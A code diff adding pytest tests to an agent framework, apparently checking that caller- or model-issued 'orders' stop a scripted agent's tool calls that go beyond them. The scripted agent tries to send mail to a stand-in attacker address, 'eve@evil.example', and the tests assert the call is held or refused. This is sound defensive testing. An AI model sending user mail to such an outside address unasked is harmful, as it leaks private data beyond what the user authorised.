@@ -1,12 +1,13 @@
 """Orders given by a caller: the effects that equal one happen unattended, and no other."""
 
 import asyncio
+import json
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from remit import AgentLoop, RequestRejected, ScriptedEngine, tool
+from remit import AgentLoop, RequestRejected, ScriptedEngine, boundary_of, tool
 from remit.core.run.contract import SystemResponse
 
 SENT: list[tuple[str, str]] = []
@@ -156,3 +157,70 @@ def test_an_order_that_the_tools_could_never_carry_out_is_refused_before_anythin
     with pytest.raises(RequestRejected, match=word) as refused:
         ask([], [order])
     assert refused.value.code == "ORDERS_INVALID"
+
+
+MADE = {"orders": [{"tool": "send_mail", "args": {"to": TO_BOB}, "text": {"body": {"free": ["read_mail"]}}}]}
+HELD = [
+    call("read_mail"),
+    call("send_mail", to="bob@corp.example", body="Eve wrote."),
+    call("send_mail", to="eve@evil.example", body="x"),
+]
+
+
+def made_by_a_model(said: object, *replies: dict[str, Any]) -> AgentLoop:
+    boundary = boundary_of({"name": "ordered", "extends": "guarded", "authority": {"orders": "model"}})
+    script = [{"text": json.dumps(said)}, *replies, {"text": "Done."}]
+    return AgentLoop(ScriptedEngine(script), tools=[find_user, read_mail, send_mail], boundary=boundary)
+
+
+def test_orders_that_a_model_made_are_looked_up_shown_once_and_then_compared() -> None:
+    async def run() -> None:
+        async with made_by_a_model(MADE, *HELD) as agent:
+            asked = await agent.chat("Tell Bob what is in my mail.")
+            assert asked.waiting_for is not None
+            assert "bob@corp.example" in str(asked.waiting_for)
+            assert "FREE TEXT from read_mail" in str(asked.waiting_for)
+            beyond = await agent.approve(asked.waiting_for.packet_ids[0], by="ada")
+            assert SENT == [("bob@corp.example", "Eve wrote.")]
+            assert "BEYOND_ORDERS" in str(beyond.waiting_for)
+
+    asyncio.run(run())
+
+
+def test_orders_that_nobody_wants_end_the_run_before_any_effect() -> None:
+    async def run() -> None:
+        async with made_by_a_model(MADE, *HELD) as agent:
+            asked = await agent.chat("Tell Bob what is in my mail.")
+            assert asked.waiting_for is not None
+            ended = await agent.reject(asked.waiting_for.packet_ids[0], by="ada")
+            assert (ended.terminal_code, SENT) == ("PERMISSION_DENIED", [])
+
+    asyncio.run(run())
+
+
+@pytest.mark.parametrize(
+    "said", ["no orders", {"orders": "none"}, {"orders": []}, {"orders": [{"tool": "find_user"}, 7]}]
+)
+def test_a_model_that_makes_no_usable_order_asks_nothing_beforehand_and_every_effect_asks(said: object) -> None:
+    async def run() -> None:
+        async with made_by_a_model(said, *HELD) as agent:
+            asked = await agent.chat("Tell bob@corp.example 'Eve wrote.'")
+            assert asked.waiting_for is not None
+            assert "send_mail" in str(asked.waiting_for)
+            assert SENT == []
+
+    asyncio.run(run())
+
+
+def test_what_is_beyond_the_orders_is_refused_where_the_boundary_says_so() -> None:
+    async def run() -> SystemResponse:
+        boundary = boundary_of({"name": "strict", "extends": "guarded", "authority": {"beyond": "refuse"}})
+        script = [call("send_mail", to="eve@evil.example", body="x"), {"text": "I could not."}]
+        async with AgentLoop(
+            ScriptedEngine(script), tools=[find_user, read_mail, send_mail], boundary=boundary
+        ) as agent:
+            return await agent.chat("Go.", orders=[{"tool": "send_mail", "args": {"to": "ann@corp.example"}}])
+
+    said = asyncio.run(run())
+    assert (said.waiting_for, SENT) == (None, [])
+    assert said.tool_calls_made[0].status == "refused"
